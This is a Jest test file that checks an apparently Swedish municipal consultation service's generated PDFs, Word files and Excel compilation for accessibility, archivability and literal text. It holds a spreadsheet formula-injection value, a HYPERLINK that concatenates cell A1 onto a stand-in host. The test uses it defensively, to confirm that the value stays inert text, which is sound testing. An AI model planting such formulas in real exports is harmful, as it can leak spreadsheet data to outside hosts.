import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { done, given, NOW, statement, TODAY } from '../support/given.js';
import { bytesOf, hasPdfTools, readPdf, type ReadPdf } from '../support/papers.js';
import { startService, type Service } from '../support/service.js';

const hasOffice = existsSync('/usr/bin/soffice') && hasPdfTools;
const hasCalc = existsSync('/usr/lib/libreoffice/program/libsclo.so');
/** What a spreadsheet would count with, or fetch, were it not text. */
const FORMULA = '=HYPERLINK("http://exempel.se/"&A1;"Svara här")';

/** Every kind of paper: who fetches it, and where it is. */
const PAPERS = {
  statement: ['tsn-handlaggare', '/consultations/{reply}/papers/statement'],
  'staff-report': ['tsn-handlaggare', '/consultations/{reply}/papers/staff-report'],
  'minutes-extract': ['tsn-handlaggare', '/consultations/{reply}/papers/minutes-extract'],
  'covering-message': ['tsn-handlaggare', '/consultations/{reply}/papers/covering-message'],
  receipt: ['tsn-handlaggare', '/consultations/{reply}/papers/receipt'],
  'remark-answers': ['tsn-handlaggare', '/consultations/{reply}/papers/remark-answers'],
  'referral-letter': ['ks-handlaggare', '/referrals/{referral}/papers/referral-letter'],
  compilation: ['ks-handlaggare', '/referrals/{referral}/papers/compilation'],
  'council-report': ['ks-handlaggare', '/referrals/{referral}/papers/staff-report'],
  agenda: ['tsn-sekreterare', `/bodies/TSN/meetings/${TODAY}/papers/agenda`],
  'register-list': ['tsn-registrator', '/bodies/TSN/papers/register-list'],
} as const;
type Kind = keyof typeof PAPERS;
const KINDS = Object.keys(PAPERS) as Kind[];

let service: Service;
let folder: string;
beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'yttra-every-paper-'));
  service = await startService();
  service.setNow(NOW);
  const found = given(service);
  const referral = await found.sentReferral();
  const { id } = await found.consultationOf('tsn-registrator', referral);
  const sections = [
    { heading: 'Barnperspektiv', text: 'Barn berörs:\n\n- trygga vägar\n  - till skolan\n- lek' },
  ];
  await found.onTheWay(referral, id, 'drafting');
  const remarks = [...statement.remarks, { passage: 'Tabell 2', text: FORMULA }];
  await found.saveStatement(id, { ...statement, sections, remarks });
  await found.goOn(id, 'drafting', 'forwarded');
  await found.step('ks-registrator', id, 'acknowledge');
  const answer = { remark: 1, text: 'Infört.', stand: 'accepted' };
  for (const [path, body] of [
    [`/consultations/${id}/remark-answers`, answer],
    [`/referrals/${referral.id}/share-compilation`, {}],
  ] as const)
    await done(service.as('ks-handlaggare').post(path, body, { ifMatch: '*' }));
  for (const kind of KINDS)
    for (const format of ['pdf', 'docx'] as const) {
      const [persona, place] = PAPERS[kind];
      const path = place.replace('{reply}', id).replace('{referral}', referral.id);
      const { body } = await bytesOf(service.as(persona).get(`${path}?format=${format}`)).expect(200);
      writeFileSync(join(folder, `${kind}.${format}`), body as Buffer);
    }
  const workbook = service
    .as('ks-handlaggare')
    .get(`/referrals/${referral.id}/papers/compilation?format=xlsx`);
  writeFileSync(join(folder, 'compilation.xlsx'), (await bytesOf(workbook).expect(200)).body as Buffer);
});
afterAll(async () => {
  rmSync(folder, { recursive: true, force: true });
  await service.stop();
});

/** What LibreOffice makes of files of the folder, in `office` beside them. */
function openedInOffice(as: string, files: readonly string[]): void {
  execFileSync('/usr/bin/soffice', [
    `-env:UserInstallation=${pathToFileURL(join(folder, 'profile')).href}`,
    '--headless',
    '--convert-to', as,
    '--outdir', join(folder, 'office'),
    ...files.map((file) => join(folder, file)),
  ], { stdio: 'ignore' }); // prettier-ignore
}

const read = (...place: string[]): ReadPdf => readPdf(readFileSync(join(folder, ...place)));

(hasPdfTools ? describe : describe.skip)('every paper as PDF', () => {
  it.each(KINDS)('is tagged, archivable and accessible, and has its fonts in it: %s', (kind) => {
    const pdf = read(`${kind}.pdf`);
    expect(pdf.xmp).toMatch(/pdfaid:part>2</);
    expect(pdf.xmp).toMatch(/pdfuaid:part>1</);
    expect(pdf.info).toMatch(/^Title: +\S/m);
    expect(pdf.info).toMatch(/^Tagged: +yes/m);
    expect(pdf.faults).toContain('No syntax or stream encoding errors');
    expect(pdf.fonts.filter(({ embedded, unicode }) => !embedded || !unicode)).toEqual([]);
    expect(pdf.headings[0]?.[0]).toBe(1);
    expect(pdf.headings.filter(([level]) => level === 1)).toHaveLength(1);
    const pages = pdf.pages.length;
    for (const [at, text] of pdf.pages.entries()) expect(text).toContain(`${at + 1} (${pages})`);
  });
});

(hasOffice ? describe : describe.skip)('every paper for Word', () => {
  beforeAll(() => {
    openedInOffice(
      'pdf:writer_pdf_Export:{"UseTaggedPDF":{"type":"boolean","value":"true"}}',
      KINDS.map((kind) => `${kind}.docx`),
    );
  }, 180_000);

  it.each(KINDS)('has in LibreOffice the headings of the PDF, in the same order: %s', (kind) => {
    const office = read('office', `${kind}.pdf`);
    expect(office.headings).toEqual(read(`${kind}.pdf`).headings);
    const pages = office.pages.length;
    for (const [at, text] of office.pages.entries()) expect(text).toContain(`${at + 1} (${pages})`);
  });
});

(hasCalc ? describe : describe.skip)('the compilation as a workbook', () => {
  it('has in LibreOffice a sheet for each of its own, every text letter for letter, and nothing that is counted', () => {
    // Every sheet as it is shown, in UTF-8, in a file of its own.
    openedInOffice('csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1', [
      'compilation.xlsx',
    ]);
    const sheets = readdirSync(join(folder, 'office')).filter((name) => name.endsWith('.csv'));
    expect(
      sheets.map((name) => name.replace(/^compilation-|\.csv$/g, '').normalize('NFC')).toSorted(),
    ).toEqual(['Antal', 'Remissinstanser', 'Svar på frågor', 'Synpunkter']);
    const shown = sheets.map((name) => readFileSync(join(folder, 'office', name), 'utf8')).join('\n');
    for (const text of ['Tekniska servicenämnden', 'Bör nämna trygga gångvägar.', FORMULA])
      expect(shown).toContain(text.replaceAll('"', '""'));
    expect(shown).not.toMatch(/#(?:NAME\?|REF!|VALUE!|DIV\/0!|N\/A)|Err:5\d\d/);
  }, 120_000);
});
